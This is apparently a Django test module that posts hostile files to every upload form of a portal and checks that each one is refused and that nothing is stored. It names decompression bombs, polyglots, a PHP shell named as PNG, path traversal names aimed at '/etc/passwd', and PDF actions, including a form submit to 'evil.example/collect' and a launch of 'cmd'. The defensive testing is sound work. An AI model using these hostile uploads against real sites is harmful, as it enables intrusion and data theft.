"""Hostile uploads on every upload field (#11, attack drills): bombs, polyglots, scripts, names, sizes, PDF actions.

Every upload field of every form in the project is found by walking the forms (any
``forms.FileField``: ``SafeImageField``, ``SafePDFField``, the case attachment, a model
form's file field), and each must be registered in ``UPLOAD_FIELDS`` with the view that
receives it: a new upload field without an entry here fails ``test_every_upload_field_is_attacked``.
Each hostile sample is then posted to each field through its real view, signed in as a
member allowed to use the form. Expected every time: the form again (never a 500), a
translated error beside that field, the other inputs kept, and nothing stored (no row, no
file in any storage).
"""

from __future__ import annotations

import importlib
import os
import pkgutil
from dataclasses import dataclass
from pathlib import Path

import pytest
from django import forms
from django.apps import apps
from django.conf import settings
from django.core.files.storage import storages
from django.db import models
from django.urls import reverse
from django.utils.functional import Promise
from django.utils.html import escape
from django.utils.translation import override
from wagtail.documents import get_document_model
from wagtail.images import get_image_model

from cases.models import CaseSubmissionAttachment
from catalog.models import Product
from competition.models import EntryAttachment, Submission
from incubator.models import DataRoomDocument, StartupProfile
from tests import upload_samples as samples
from tests.cases.factories import HospitalFactory, SubmissionFactory
from tests.catalog.test_media_views import form_data
from tests.competition.algorithm.factories import entered_team, make_task, upload_form
from tests.competition.factories import EntryFactory, running_competition
from tests.factories import MembershipFactory, OrganisationFactory
from tests.incubator.datarooms.world import post_document_upload
from tests.incubator.profiles.test_services import _form_data as startup_form_data

pytestmark = pytest.mark.django_db

PROJECT_APPS = ("portal", "catalog", "cases", "search", "competition", "incubator")
#: Per-file limits for this module, so the oversize sample stays small (the mechanism is the same).
FILE_LIMIT = 1024 * 1024
KEPT_TEXT = "保留的说明文字"


# --- the hostile samples -------------------------------------------------------------------

MB = 1024 * 1024
HOSTILE = {
    # decompression bombs: a few hundred bytes declaring billions of pixels
    "png-bomb-30000x30000": ("bomb.png", samples.png_declaring(30000, 30000), "image/png"),
    "png-over-the-pixel-limit": ("big.png", samples.png_declaring(7000, 7000), "image/png"),
    "jpeg-bomb-60000x60000": ("bomb.jpg", samples.jpeg_declaring(60000, 60000), "image/jpeg"),
    # polyglots: a valid picture or PDF that is also an HTML page or a ZIP archive
    "jpeg-html-after-end": ("photo.jpg", samples.jpeg_html_polyglot("trailer"), "image/jpeg"),
    "jpeg-html-in-comment": ("photo.jpg", samples.jpeg_html_polyglot("comment"), "image/jpeg"),
    "png-html-in-text-chunk": ("photo.png", samples.png_html_polyglot("text"), "image/png"),
    "png-html-after-end": ("photo.png", samples.png_html_polyglot("trailer"), "image/png"),
    "webp-html-after-end": ("photo.webp", samples.webp_html_polyglot(), "image/webp"),
    "pdf-zip": ("brochure.pdf", samples.pdf_zip_polyglot(eof_after=False), "application/pdf"),
    "pdf-zip-then-eof": ("brochure.pdf", samples.pdf_zip_polyglot(eof_after=True), "application/pdf"),
    # markup and scripts
    "svg-with-script": ("logo.svg", samples.SVG_WITH_SCRIPT, "image/svg+xml"),
    "svg-with-bom-named-png": ("logo.png", samples.SVG_WITH_BOM, "image/png"),
    "html-named-png": ("page.png", samples.HTML_AS_PNG, "image/png"),
    "php-named-png": ("shell.png", samples.PHP_AS_PNG, "image/png"),
    # wrong magic bytes: the content is not what the name and type say
    "exe-named-png": ("photo.png", samples.EXE_BYTES, "image/png"),
    "exe-named-pdf": ("brochure.pdf", samples.EXE_BYTES, "application/pdf"),
    "png-magic-then-html": ("photo.png", samples.PNG_MAGIC_THEN_HTML, "image/png"),
    "pdf-magic-then-html": ("brochure.pdf", samples.PDF_MAGIC_THEN_HTML, "application/pdf"),
    "truncated-png": ("broken.png", samples.truncated_png(), "image/png"),
    "empty": ("empty.png", b"", "image/png"),
    # path traversal and right-to-left override names (with content as hostile as the name)
    "traversal-php": ("../../../../var/www/html/shell.php", samples.PHP_AS_PNG, "image/png"),
    "traversal-windows-config": ("..\\..\\web.config", b'<?xml version="1.0"?><configuration/>', "image/png"),
    "rtl-override-exe": ("photo\u202egnp.exe", samples.EXE_BYTES, "image/png"),
    "rtl-override-html": ("report\u202efdp.html", samples.HTML_AS_PNG, "application/pdf"),
    # oversize (the per-file limit; the request limit is test_oversized_request_is_a_413_for_every_view)
    "oversize": ("big.png", samples.padded_png(FILE_LIMIT + 1), "image/png"),
    # PDFs that act: scripts, launches, attachments, encryption, actions other than navigation
    "pdf-javascript": ("brochure.pdf", samples.pdf_bytes(javascript=True), "application/pdf"),
    "pdf-launch": ("brochure.pdf", samples.pdf_bytes(launch=True), "application/pdf"),
    "pdf-embedded-file": ("brochure.pdf", samples.pdf_bytes(attachment=True), "application/pdf"),
    "pdf-encrypted": ("brochure.pdf", samples.pdf_bytes(encrypt=True), "application/pdf"),
    "pdf-open-uri-javascript": (
        "brochure.pdf",
        samples.pdf_with_action("/URI", "open", URI="javascript:app.alert(1)"),
        "application/pdf",
    ),
    "pdf-link-submit-form": (
        "brochure.pdf",
        samples.pdf_with_action("/SubmitForm", "link", F="https://evil.example/collect"),
        "application/pdf",
    ),
    "pdf-page-aa-uri": (
        "brochure.pdf",
        samples.pdf_with_action("/URI", "page-aa", URI="https://evil.example/"),
        "application/pdf",
    ),
    "pdf-chained-launch": (
        "brochure.pdf",
        samples.pdf_with_action("/Launch", "next", F="cmd"),
        "application/pdf",
    ),
}

#: Every code ``portal.uploads`` refuses a file with.
REFUSAL_CODES = {
    "empty",
    "file_too_large",
    "markup",
    "invalid_image",
    "invalid_image_format",
    "too_many_pixels",
    "image_too_wide",
    "image_too_small",
    "corrupt_image",
    "not_pdf",
    "not_pdf_or_image",
    "corrupt_pdf",
    "encrypted_pdf",
    "too_many_pages",
    "active_pdf",
    "pdf_action",
    "polyglot_pdf",
    "request_files",
    "request_pixels",
}


# --- the upload fields and their views --------------------------------------------------------


@dataclass
class Posted:
    response: object
    form: forms.BaseForm
    field: str


def _context(response, key, pick):
    """The form the view rendered (``None`` for a redirect or an error page)."""
    context = response.context
    return pick(context[key]) if context is not None and key in context else None


def _product_create_url(organisation):
    with override("zh-hans"):
        return reverse("catalog:product_create", kwargs={"organisation_pk": organisation.pk})


def _post_product_image(client, upload) -> Posted:
    membership = MembershipFactory(role="editor")
    client.force_login(membership.user)
    data = form_data(images=[{"file": upload, "alt_zh": KEPT_TEXT}])
    response = client.post(_product_create_url(membership.organisation), data)
    return Posted(response, _context(response, "media_forms", lambda forms: forms.images.forms[0]), "file")


def _post_product_brochure(client, upload) -> Posted:
    membership = MembershipFactory(role="editor")
    client.force_login(membership.user)
    data = form_data(brochures=[{"file": upload, "title_zh": KEPT_TEXT}])
    response = client.post(_product_create_url(membership.organisation), data)
    return Posted(response, _context(response, "media_forms", lambda forms: forms.brochures.forms[0]), "file")


def _post_case_attachment(client, upload) -> Posted:
    hospital = HospitalFactory()
    submission = SubmissionFactory(organisation=hospital, team=KEPT_TEXT)
    client.force_login(MembershipFactory(organisation=hospital).user)
    with override("zh-hans"):
        url = reverse("cases:submission_step", args=[submission.pk, "links"])
    response = client.post(url, {"version": submission.version, "team": KEPT_TEXT, "attachment": upload})
    return Posted(response, _context(response, "form", lambda form: form), "attachment")


def _post_entry_file(field):
    """A competition entry's upload (the deck, the image) through the entry form, as its team's captain."""

    def post(client, upload) -> Posted:
        entry = EntryFactory()
        client.force_login(entry.team.created_by)
        with override("zh-hans"):
            url = reverse("competition:entry_edit", args=[entry.pk])
        response = client.post(url, {"version": entry.version, "title": KEPT_TEXT, field: upload})
        return Posted(response, _context(response, "form", lambda form: form), field)

    return post


def _post_predictions(client, upload) -> Posted:
    """An algorithm task's prediction file (CSV) through the team's task page, as its captain."""
    competition = running_competition()
    team = entered_team(competition=competition)
    task = make_task(competition)
    client.force_login(team.created_by)
    with override("zh-hans"):
        url = reverse("competition:algorithm_team_task", kwargs={"team_pk": team.pk, "task_pk": task.pk})
    response = client.post(url, upload_form(upload))
    return Posted(response, _context(response, "form", lambda form: form), "file")


def _post_pitch_deck(client, upload) -> Posted:
    """A startup's pitch deck through its profile form, as the startup's owner (the summary is kept)."""
    membership = MembershipFactory(organisation=OrganisationFactory(kind="startup"), role="owner")
    client.force_login(membership.user)
    with override("zh-hans"):
        url = reverse("incubator:profile_edit", kwargs={"organisation_pk": membership.organisation.pk})
    data = startup_form_data(summary_zh=KEPT_TEXT, pitch_deck=upload)
    response = client.post(url, data)
    return Posted(response, _context(response, "form", lambda form: form), "pitch_deck")


#: Every upload field of the project's forms → how to post a file to it through its real view.
UPLOAD_FIELDS = {
    "catalog.forms.ImageRowForm.file": _post_product_image,
    "catalog.forms.BrochureRowForm.file": _post_product_brochure,
    "cases.forms.LinksForm.attachment": _post_case_attachment,
    "competition.forms.EntryForm.deck": _post_entry_file("deck"),
    "competition.forms.EntryForm.image": _post_entry_file("image"),
    "incubator.profiles.forms.StartupProfileForm.pitch_deck": _post_pitch_deck,
    "incubator.datarooms.forms.DocumentForm.file": lambda client, upload: Posted(*post_document_upload(client, upload)),
}
#: Upload fields that take text data (CSV), not pictures or PDFs: the same hostile samples must be
#: refused beside the field with nothing stored, answered 400 with the CSV reader's own reasons
#: (``competition.algorithm.parsing``; the CSV attacks themselves are in tests/competition/algorithm).
DATA_UPLOAD_FIELDS = {
    "competition.algorithm.forms.PredictionsForm.file": _post_predictions,
}
#: Upload fields that take pictures only (the others take PDFs).
IMAGE_FIELDS = ("ImageRowForm.file", "EntryForm.image")
#: Every file field of the project's models → the form field through which members fill it.
MODEL_FILE_FIELDS = {
    "cases.CaseSubmissionAttachment.file": "cases.forms.LinksForm.attachment",
    "competition.EntryAttachment.file": "competition.forms.EntryForm.deck",
    "competition.Submission.file": "competition.algorithm.forms.PredictionsForm.file",
    "incubator.DataRoomDocument.file": "incubator.datarooms.forms.DocumentForm.file",
    "incubator.StartupProfile.pitch_deck": "incubator.profiles.forms.StartupProfileForm.pitch_deck",
}
#: Model file fields only alliance staff fill, in the admin, and why they are safe to keep.
STAFF_FILE_FIELDS = {
    "competition.AlgorithmTask.hidden_labels": "a CSV parsed and range-checked on save, stored privately, staff-only",
    "competition.AlgorithmTaskFile.file": "a task's public data, size-limited and served as an attachment download",
}


def _project_modules():
    for app in PROJECT_APPS:
        package = importlib.import_module(app)
        yield package
        for info in pkgutil.walk_packages(package.__path__, prefix=f"{app}."):
            if any(part in info.name for part in (".migrations", ".management", ".settings")):
                continue
            yield importlib.import_module(info.name)


def _all_subclasses(cls):
    for subclass in cls.__subclasses__():
        yield subclass
        yield from _all_subclasses(subclass)


def discovered_upload_fields() -> set[str]:
    list(_project_modules())  # every form class of the project is defined once its module is imported
    found = set()
    for form_class in set(_all_subclasses(forms.BaseForm)):
        if not form_class.__module__.startswith(PROJECT_APPS):
            continue
        for name, field in getattr(form_class, "base_fields", {}).items():
            if isinstance(field, forms.FileField):
                found.add(f"{form_class.__module__}.{form_class.__qualname__}.{name}")
    return found


def test_every_upload_field_is_attacked():
    found = discovered_upload_fields()
    assert found, "the walk found no upload field at all"
    attacked = set(UPLOAD_FIELDS) | set(DATA_UPLOAD_FIELDS)
    missing = found - attacked
    assert not missing, f"upload fields without hostile-upload coverage (add them to UPLOAD_FIELDS): {missing}"
    assert not attacked - found, "UPLOAD_FIELDS names a field that no longer exists"


def test_every_model_file_field_is_filled_through_an_attacked_form_field():
    found = {
        f"{model._meta.app_label}.{model.__name__}.{field.name}"
        for model in apps.get_models()
        if model.__module__.startswith(PROJECT_APPS)
        for field in model._meta.get_fields()
        if isinstance(field, models.FileField)
    }
    mapped = set(MODEL_FILE_FIELDS) | set(STAFF_FILE_FIELDS)
    assert found == mapped, "a model file field is not mapped to the form field that fills it"
    assert set(MODEL_FILE_FIELDS.values()) <= set(UPLOAD_FIELDS) | set(DATA_UPLOAD_FIELDS)


# --- what "nothing stored" means --------------------------------------------------------------


def _stored() -> tuple:
    files = set()
    for alias in settings.STORAGES:
        location = getattr(storages[alias], "location", None)
        if alias == "staticfiles" or not location:
            continue
        for folder, _dirs, names in os.walk(location):
            files.update(Path(folder, name) for name in names)
    return (
        Product.objects.count(),
        get_image_model().objects.count(),
        get_document_model().objects.count(),
        CaseSubmissionAttachment.objects.count(),
        EntryAttachment.objects.count(),
        Submission.objects.count(),
        DataRoomDocument.objects.count(),
        StartupProfile.objects.exclude(pitch_deck="").count(),
        frozenset(files),
    )


@pytest.fixture(autouse=True)
def _own_media_and_small_file_limits(settings, tmp_path):
    # Storage of this test alone (the private root follows MEDIA_ROOT), so "nothing stored" is exact.
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.PORTAL_UPLOAD_IMAGE_MAX_BYTES = FILE_LIMIT
    settings.PORTAL_UPLOAD_PDF_MAX_BYTES = FILE_LIMIT


@pytest.mark.parametrize("sample", sorted(HOSTILE))
@pytest.mark.parametrize("target", sorted(DATA_UPLOAD_FIELDS))
def test_hostile_data_upload_is_refused_beside_its_field_and_nothing_is_stored(client, target, sample):
    name, content, content_type = HOSTILE[sample]
    posted = DATA_UPLOAD_FIELDS[target](client, samples.upload(name, content, content_type))
    assert posted.response.status_code == 400, f"{target} answered {posted.response.status_code} to {sample}"
    assert posted.form.errors.get(posted.field), f"{target} accepted {sample}"
    # Nothing stored: no submission row and no file where submissions go (the task's own files are the setup's).
    stored = [path for path in _stored()[-1] if "competition/algorithm/submissions" in path.as_posix()]
    assert not Submission.objects.exists() and not stored, f"{target} stored something for {sample}"


@pytest.mark.parametrize("sample", sorted(HOSTILE))
@pytest.mark.parametrize("target", sorted(UPLOAD_FIELDS))
def test_hostile_upload_is_refused_beside_its_field_and_nothing_is_stored(client, target, sample):
    name, content, content_type = HOSTILE[sample]
    before = _stored()
    posted = UPLOAD_FIELDS[target](client, samples.upload(name, content, content_type))
    response = posted.response
    # Every form answers a refused upload with 400 (``portal.review.errors.form_status``).
    assert response.status_code == 400, f"{target} answered {response.status_code} to {sample}"
    errors = posted.form.errors.as_data().get(posted.field)
    assert errors, f"{target} accepted {sample}"
    assert {error.code for error in errors} <= REFUSAL_CODES
    assert all(isinstance(error.message, Promise) for error in errors), "the message is not translatable"
    # The error is rendered beside the field (its error list, linked to the input), in the page's language.
    html = response.content.decode()
    bound = posted.form[posted.field]
    assert f'id="{bound.auto_id}_error"' in html
    with override("zh-hans"):
        assert all(escape(message) in html for message in bound.errors)
    assert KEPT_TEXT in html  # the member's other input is kept
    assert _stored() == before, f"{target} stored something of {sample}"


@pytest.mark.parametrize("target", sorted(UPLOAD_FIELDS))
def test_oversized_request_is_a_413_for_every_view(client, settings, target):
    settings.PORTAL_UPLOAD_MAX_REQUEST_BYTES = 200_000
    before = _stored()
    posted = UPLOAD_FIELDS[target](client, samples.upload("big.png", samples.padded_png(300_000), "image/png"))
    assert posted.response.status_code == 413
    assert _stored() == before


# --- hostile names on harmless files: accepted, and nothing of the name reaches a path ------------------


HOSTILE_NAMES = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\evil",
    "/absolute/path/x",
    "photo\u202egnp.exe",
    "报告\u202efdp.html",
    "con\x00trol\x1bchars\r\n.pdf",
]


@pytest.mark.parametrize("original", HOSTILE_NAMES)
@pytest.mark.parametrize("target", sorted(UPLOAD_FIELDS))
def test_a_hostile_name_never_reaches_a_path_or_a_shown_name(client, target, original):
    content = samples.png_bytes() if target.endswith(IMAGE_FIELDS) else samples.pdf_bytes()
    posted = UPLOAD_FIELDS[target](client, samples.upload(original, content))
    assert posted.response.status_code == 302, posted.form.errors if posted.form else posted.response
    if target.startswith("cases."):
        stored = CaseSubmissionAttachment.objects.get()
        files, shown = [stored.file], [stored.name]
    elif target.startswith("competition."):
        stored = EntryAttachment.objects.get()
        files, shown = [stored.file], [stored.name]
    elif target.startswith("incubator.datarooms."):
        stored = DataRoomDocument.objects.get()
        files, shown = [stored.file], [stored.name]
    elif target.startswith("incubator.profiles."):
        files, shown = [StartupProfile.objects.get().pitch_deck], []
    else:
        product = Product.objects.get()
        files = [item.image.file for item in product.images.all()] + [
            item.document.file for item in product.brochures.all()
        ]
        shown = []
    for file in files:
        root = os.path.realpath(file.storage.location)
        assert os.path.realpath(file.path).startswith(root + os.sep)
        stored_name = file.name.rsplit("/", 1)[-1]
        assert stored_name.isascii() and ".." not in stored_name and "\\" not in stored_name
        assert stored_name.replace("-", "").replace(".", "").replace("_", "").isalnum()
    for name in shown:
        assert "/" not in name and "\\" not in name
        assert not any(ch in name for ch in "\u202e\u202d\u2066\u2067\u2068\u2069\x00\x1b\r\n")


@pytest.mark.parametrize("target", [t for t in sorted(UPLOAD_FIELDS) if not t.endswith(IMAGE_FIELDS)])
def test_what_trails_a_pdf_is_not_stored_by_any_pdf_field(client, target):
    document = samples.pdf_bytes()
    posted = UPLOAD_FIELDS[target](client, samples.upload("b.pdf", document + samples.HTML_TRAILER))
    assert posted.response.status_code == 302
    if target.startswith("cases."):
        file = CaseSubmissionAttachment.objects.get().file
    elif target.startswith("competition."):
        file = EntryAttachment.objects.get().file
    elif target.startswith("incubator.datarooms."):
        file = DataRoomDocument.objects.get().file
    elif target.startswith("incubator.profiles."):
        file = StartupProfile.objects.get().pitch_deck
    else:
        file = get_document_model().objects.get().file
    with file.open("rb") as stored:
        assert stored.read() == document
